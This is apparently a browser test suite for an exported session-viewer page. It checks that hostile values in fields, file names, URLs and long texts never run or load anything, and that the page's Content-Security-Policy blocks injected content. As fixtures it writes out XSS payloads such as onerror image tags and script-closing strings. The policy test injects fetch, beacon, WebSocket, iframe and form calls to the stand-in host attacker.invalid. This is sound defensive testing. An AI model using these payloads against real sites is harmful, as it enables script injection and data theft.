// Hostile values in every field: none runs, none sends a request, none becomes an element of the page.
import assert from "node:assert/strict";
import { test } from "node:test";
import { exported, foreignRequests, open, search, Session, settled, useBrowser } from "./lib.mjs";
import { addEntries, assertNothingHappened, markdown, sampled, values, walk, watch } from "./hostile.mjs";

const browser = useBrowser();

const sessions = { "one file": false, split: true };
for (const [name, isSplit] of Object.entries(sessions)) {
  test(`hostile values in every field: ${name}`, async () => {
    assert.ok(values.length >= 500 && markdown.length >= 65, `${values.length} values`);
    const used = isSplit ? values.filter((_, at) => at % 8 === 0) : sampled;
    const s = new Session();
    used.forEach((value, at) => addEntries(s, value, at));
    const page = await browser.tab({ init: watch });
    await open(page, exported(s, { isSplit }));
    await page.evaluate((size) => { window.groupSize = size; }, (s.lines.length - 1) / used.length);
    await walk(page, used.length);
    const { rows, strange } = await page.evaluate(() => ({ rows: window.seenRows.size, strange: window.strange }));
    assert.deepEqual(strange.slice(0, 10), [], `${strange.length} strange elements`);
    assert.ok(rows >= s.lines.length - 1, `${rows} of ${s.lines.length - 1} entries were drawn`);
    for (const value of used.filter((value, at) => typeof value === "string" && value.trim() && at % (isSplit ? 9 : 90) === 0)) {
      await search(page, value.slice(0, 300));
      await page.press("#search", "Enter");
      await settled(page);
    }
    await page.press("#search", "Escape");
    assertNothingHappened(page, name);
    const lines = await page.evaluate(() => window.seenLines.size);
    assert.ok(lines > used.length * 10, `${lines} lines of the tree were drawn`);
  });
}

test("hostile names, folders, labels and times of the session itself", async () => {
  const page = await browser.tab({ init: watch });
  const texts = values.filter((value) => typeof value === "string");
  const groups = [];
  for (let at = 0; at < texts.length; at += 60) groups.push(texts.slice(at, at + 60).join(" "));
  for (const text of [...groups, `<img src=x onerror=canary(1)>`, `</title><script>canary(1)</script>`]) {
    const s = new Session({ id: text, cwd: text, timestamp: text, parentSession: text, provider: text });
    s.user(text);
    s.add({ type: "session_info", name: text });
    s.add({ type: "label", targetId: s.leaf, label: text });
    s.answer("fine", { model: text, provider: text });
    const name = "<img src=x onerror=canary(1)>'\"&.jsonl";
    await open(page, exported(s, { name }));
    assert.ok((await page.title()).length > 0);
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download")]);
    assert.match(download.suggestedFilename(), /^[\w.-]+$/);
    assert.deepEqual(await page.evaluate(() => window.strange), []);
    assertNothingHappened(page, text);
  }
});

test("hostile values in the windows of long texts", async () => {
  const page = await browser.tab({ init: watch });
  const text = values.filter((value) => typeof value === "string").join("\n");
  const s = new Session();
  const long = `${text}\n`.repeat(4);
  const results = [s.tool("bash", { command: "x" }, long).result, s.tool("write", { path: "a.html", content: long }, "x").call, s.answer(long)];
  await open(page, exported(s));
  for (const id of results) {
    await page.evaluate((id) => { location.hash = `#entry-${id}`; }, id);
    await settled(page);
    const entry = page.locator(`#entry-${id}`);
    for (const details of await entry.locator("details.rest").all()) await details.evaluate((element) => { element.open = true; });
    for (let n = 0; n < 20 && (await entry.locator("button.more").count()); n++) {
      await entry.locator("button.more").first().evaluate((button) => button.click());
      await settled(page);
    }
    assert.ok((await entry.locator("pre, .md").count()) > 4);
  }
  assert.deepEqual(await page.evaluate(() => window.strange), []);
  assertNothingHappened(page, "long texts");
});

test("hostile addresses of the page", async () => {
  const page = await browser.tab({ init: watch });
  const s = new Session();
  s.user("hello");
  const address = exported(s);
  for (const value of values.filter((value, at) => typeof value === "string" && at % 50 === 0)) {
    const text = encodeURIComponent(value.toWellFormed?.() ?? value.replace(/[\ud800-\udfff]/g, ""));
    await open(page, `${address}?leafId=${text}&targetId=${text}#entry-${text}`);
    assert.ok(await page.isVisible("article"));
    assert.deepEqual(await page.evaluate(() => window.strange), []);
    assertNothingHappened(page, value);
  }
});

test("without JavaScript nothing runs and nothing is loaded", async () => {
  const page = await browser.tab({ javaScript: false });
  for (let from = 0; from < values.length; from += 140) {
    const s = new Session();
    s.user(values.slice(from, from + 140).filter((value) => typeof value === "string").join("\n\n"));
    page.seen.requests.length = 0;
    await page.goto(exported(s));
    assert.deepEqual(foreignRequests(page), []);
  }
});

test("the policy of the page stops what would get past everything else", async () => {
  for (const isSplit of [false, true]) {
    const s = new Session();
    s.user("hello");
    const page = await browser.tab();
    await open(page, exported(s, { isSplit }));
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    // The search of the page runs in a worker made from the page's own script.
    assert.doesNotMatch(policy.replace("worker-src blob:;", ""), /unsafe|\*|https?:|blob:/);
    assert.match(policy, /default-src 'none'/);
    assert.equal(await page.$eval("head", (head) => head.children[1].httpEquiv), "Content-Security-Policy", "before any style or script");
    await page.evaluate(() => {
      const add = (html) => { const box = document.createElement("div"); document.body.append(box); box.innerHTML = html; };
      add('<img src=x onerror="canary(1)">');
      add('<img src="http://attacker.invalid/i.png"><iframe src="http://attacker.invalid/"></iframe><link rel=stylesheet href="http://attacker.invalid/s.css"><object data="http://attacker.invalid/"></object>');
      add('<form id=f action="http://attacker.invalid/"></form>');
      document.getElementById("f").submit();
      const script = document.createElement("script");
      script.textContent = "canary(2)";
      document.body.append(script);
      const remote = document.createElement("script");
      remote.src = "http://attacker.invalid/a.js";
      document.body.append(remote);
      const data = document.createElement("script");
      data.src = "data:text/javascript,canary(3)";
      document.body.append(data);
      const base = document.createElement("base");
      base.href = "http://attacker.invalid/";
      document.head.append(base);
      fetch("http://attacker.invalid/f").catch(() => {});
      navigator.sendBeacon?.("http://attacker.invalid/b");
      try { new WebSocket("ws://attacker.invalid/"); } catch {}
      try { new EventSource("http://attacker.invalid/e"); } catch {}
      try { new Worker("data:text/javascript,postMessage(1)"); } catch {}
    });
    await page.waitForFunction(() => true);
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.deepEqual(page.seen.executed, []);
    assert.ok(page.seen.violations.length >= 8, String(page.seen.violations));
    const fromWorker = await page.evaluate(() => new Promise((resolve) => {
      const code = 'fetch("data:text/plain,x").then(() => postMessage("sent"), () => postMessage("blocked"))';
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = () => resolve("not started");
    }));
    assert.equal(fromWorker, "blocked", "a worker has the policy of the page");
    assert.ok(page.url().startsWith("file:"));
    assert.equal(await page.evaluate(() => document.baseURI.startsWith("file:")), true);
  }
});
